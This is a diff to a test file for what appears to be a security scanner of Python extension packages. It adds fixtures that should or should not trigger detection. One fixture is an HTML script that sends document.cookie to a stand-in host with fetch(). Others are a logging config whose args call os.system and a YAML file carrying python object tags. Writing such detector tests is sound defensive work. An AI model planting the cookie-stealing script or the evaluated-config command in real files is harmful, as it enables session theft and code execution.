@@ -80,6 +80,13 @@ describe('the checks hold', () => {
       },
     ],
     [
+      'a page with a script that sends cookies',
+      {
+        '__init__.py': '',
+        'web/a.html': '<p>a</p>\n<script>fetch("https://e.example/?" + document.cookie)</script>\n',
+      },
+    ],
+    [
       'settings of log handlers that are evaluated',
       { '__init__.py': '', 'a.ini': '[handler_a]\nclass=StreamHandler\nargs=(__import__("os").system("a"),)\n' },
     ],
@@ -101,7 +108,7 @@ describe('the checks do not hold', () => {
       'import server\ndef f(item):\n    print(item)\n    return item\nserver.PromptServer.instance.add_on_prompt_handler(f)\n',
     ],
     [
-      'a handler that serves a file of its own folder',
+      'a handler that serves a file of the package’s folder',
       handler('import os; return web.FileResponse(os.path.join(os.path.dirname(__file__), request.query["name"]))'),
     ],
     [
@@ -132,6 +139,13 @@ describe('the checks do not hold', () => {
         '__init__.py': '',
         'a.yaml':
           'size: !!python/tuple [1, 2]\nnamespace: !!python/object:argparse.Namespace {a: 1}\nname: os.system\n',
+      },
+    ],
+    [
+      'a page that links to other pages',
+      {
+        '__init__.py': '',
+        'web/a.html': '<script src="https://e.example/a.js"></script><script>localStorage.a = 1;</script>',
       },
     ],
     ['a file of settings', { '__init__.py': '', 'a.ini': '[a]\nrun = os.system\nargs=(sys.stdout,)\n' }],
